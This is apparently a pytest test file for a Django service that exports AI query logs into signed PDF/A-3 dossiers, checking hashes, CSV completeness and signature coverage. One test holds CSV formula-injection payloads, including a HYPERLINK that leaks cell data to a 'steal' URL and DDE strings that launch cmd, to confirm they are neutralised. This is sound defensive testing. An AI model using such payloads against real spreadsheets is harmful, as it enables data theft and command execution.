"""What an outside expert gets from a finished dossier: the attachments extract from the
stored PDF, the manifest's hashes match them, the query-log export holds every row with
its trace, and the signature still covers it all."""

import csv
import hashlib
import io
import json
import subprocess

import pikepdf
import pytest
from django.core.management import call_command
from pyhanko.keys import load_cert_from_pemder
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.validation import validate_pdf_signature
from pyhanko_certvalidator import ValidationContext

from config.rfc3339 import format_utc
from dossiers.exports import COLUMNS, query_log_export
from evidence.models import QueryLogBatch, QueryLogRow
from tests.evidence.test_query_logs import ndjson, post, record

TRICKY_PROMPT = 'He said "stop", then: a,b;c\nnew line — 漢字 and ümlaut'


@pytest.fixture(autouse=True)
def _isolated_files(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.DOSSIER_SIGNING_KEY_PATH = tmp_path / "keys" / "signing.key"
    settings.DOSSIER_SIGNING_CERT_PATH = tmp_path / "keys" / "signing.crt"
    settings.DOSSIER_TSA_URL = ""


@pytest.fixture
def finished(
    incident, counsel, service_user, api, tmp_path, django_capture_on_commit_callbacks
):
    rows = [record(i) for i in range(40)]
    rows[7] = record(7, prompt=TRICKY_PROMPT, params={"n": 3, "logprobs": True})
    rows[9] = record(9, ip="2001:db8::1", prompt_tokens=None)
    rows[11] = record(11, extra_field="kept under extra")
    assert post(api(service_user, "ingest"), incident, ndjson(rows)).status_code == 201
    call_command("create_signing_identity", stdout=io.StringIO())
    client = api(counsel)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"/api/v1/incidents/{incident.reference}/dossiers/",
            {"sign": True},
            format="json",
        )
    job = client.get(response.json()["url"]).json()
    assert job["status"] == "done", job
    path = tmp_path / "stored.pdf"
    path.write_bytes(b"".join(client.get(job["pdf_url"]).streaming_content))
    return {"path": path, "incident": incident, "job": job}


def _attachments(path) -> dict[str, bytes]:
    with pikepdf.open(path) as pdf:
        return {
            name: spec.get_file().read_bytes() for name, spec in pdf.attachments.items()
        }


def test_manifest_names_every_attachment_with_its_hash(finished):
    files = _attachments(finished["path"])
    manifest = json.loads(files["manifest.json"])
    assert {a["name"] for a in manifest["attachments"]} | {"manifest.json"} == set(
        files
    )
    for entry in manifest["attachments"]:
        assert hashlib.sha256(files[entry["name"]]).hexdigest() == entry["sha256"]


def test_query_log_export_holds_every_row_with_its_trace(finished):
    export = _attachments(finished["path"])["query-logs.csv"].decode("utf-8")
    records = list(csv.DictReader(io.StringIO(export)))
    assert tuple(csv.reader(io.StringIO(export.splitlines()[0]))) == (list(COLUMNS),)
    stored = list(
        QueryLogRow.objects.filter(incident=finished["incident"]).order_by(
            "timestamp", "id"
        )
    )
    assert len(records) == len(stored) == 40
    for exported, row in zip(records, stored, strict=True):
        assert exported["batch"] == str(row.batch_id)
        assert exported["line"] == str(row.line)
        assert exported["row_sha256"] == row.row_sha256
        assert exported["timestamp"] == format_utc(row.timestamp)
        assert exported["ip"] == (row.ip or "")
        assert exported["prompt"] == row.prompt
        assert exported["prompt_tokens"] == (
            "" if row.prompt_tokens is None else str(row.prompt_tokens)
        )
        assert json.loads(exported["params"]) == row.params
        assert json.loads(exported["extra"]) == row.extra
    assert any(r["prompt"] == TRICKY_PROMPT for r in records)
    assert any(r["ip"] == "2001:db8::1" for r in records)


def test_signed_dossier_with_attachments_validates_and_checks(finished, settings):
    check = subprocess.run(
        ["qpdf", "--check", str(finished["path"])], capture_output=True, text=True
    )
    assert check.returncode == 0, check.stdout + check.stderr
    trust = load_cert_from_pemder(str(settings.DOSSIER_SIGNING_CERT_PATH))
    with finished["path"].open("rb") as handle:
        [signature] = PdfFileReader(handle).embedded_signatures
        status = validate_pdf_signature(
            signature, ValidationContext(trust_roots=[trust])
        )
    assert status.intact and status.valid
    assert status.coverage.name == "ENTIRE_FILE"
    with pikepdf.open(finished["path"]) as pdf:
        meta = pdf.open_metadata()
        assert meta.get("pdfaid:part") == "3"
        assert pdf.docinfo["/Producer"] == meta.get("pdf:Producer")
        associated = {str(spec.UF) for spec in pdf.Root.AF}
        assert associated == set(pdf.attachments)
        for spec in pdf.attachments.values():
            assert spec.get_file().mime_type in ("text/csv", "application/json")
            assert "/ModDate" in spec.obj.EF.F.Params


def test_the_export_holds_only_the_batches_of_the_snapshot(incident, service_user, api):
    # given: two batches; the snapshot was taken when only the first had landed
    tool = api(service_user, "ingest")
    assert (
        post(tool, incident, ndjson([record(i) for i in range(5)])).status_code == 201
    )
    later = [record(i, request_id=f"late_{i}") for i in range(3)]
    assert post(tool, incident, ndjson(later)).status_code == 201
    first, _ = QueryLogBatch.objects.order_by("id")
    # when
    sink = io.BytesIO()
    query_log_export(incident, [first.pk], sink)
    # then
    exported = list(csv.DictReader(io.StringIO(sink.getvalue().decode())))
    assert len(exported) == 5
    assert {r["batch"] for r in exported} == {str(first.pk)}


HOSTILE = {
    "prompt": '=HYPERLINK("http://127.0.0.1/steal?d="&A1,"Click for details")',
    "account_id": "+acct_evil",
    "user_agent": "-2+3+cmd|' /C calc'!A0",
    "model": "@SUM(1+1)*cmd|' /C calc'!A0",
    "request_id": "\t=1+1",
    "org_id": "\r=1+1",
    "response": "=1+1",
    "api_key_fp": "-1",
}


def test_the_query_log_export_neutralises_formulas_but_the_evidence_keeps_them(
    incident, counsel, analyst, service_user, api, django_capture_on_commit_callbacks
):
    # given: a batch whose detector wrote formulas into every free-text field
    body = ndjson([record(0, **HOSTILE), record(1, prompt="1 = 1 is not a formula")])
    response = post(api(service_user, "ingest"), incident, body)
    assert response.status_code == 201, response.content
    evidence_url = response.json()["evidence"]["download_url"]
    client = api(counsel)
    # when
    with django_capture_on_commit_callbacks(execute=True):
        requested = client.post(
            f"/api/v1/incidents/{incident.reference}/dossiers/", {}, format="json"
        )
    job = client.get(requested.json()["url"]).json()
    assert job["status"] == "done", job
    pdf = b"".join(client.get(job["pdf_url"]).streaming_content)
    with pikepdf.open(io.BytesIO(pdf)) as document:
        files = {
            name: spec.get_file().read_bytes()
            for name, spec in document.attachments.items()
        }
    # then: every such cell starts with a single quote in the export
    exported = list(csv.DictReader(io.StringIO(files["query-logs.csv"].decode())))
    hostile = next(r for r in exported if r["line"] == "1")
    for field, value in HOSTILE.items():
        assert hostile[field] == "'" + value, field
    harmless = next(r for r in exported if r["line"] == "2")
    assert harmless["account_id"] == "acct_1"
    assert harmless["prompt"] == "1 = 1 is not a formula"
    # and the manifest and the attachment say so
    manifest = json.loads(files["manifest.json"])
    entry = next(a for a in manifest["attachments"] if a["name"] == "query-logs.csv")
    assert "single quote" in entry["description"]
    assert "= + - @" in entry["description"]
    # and the bytes as received are kept unchanged as evidence
    kept = b"".join(api(analyst).get(evidence_url).streaming_content)
    assert kept == body
    assert b'"=HYPERLINK(' in kept
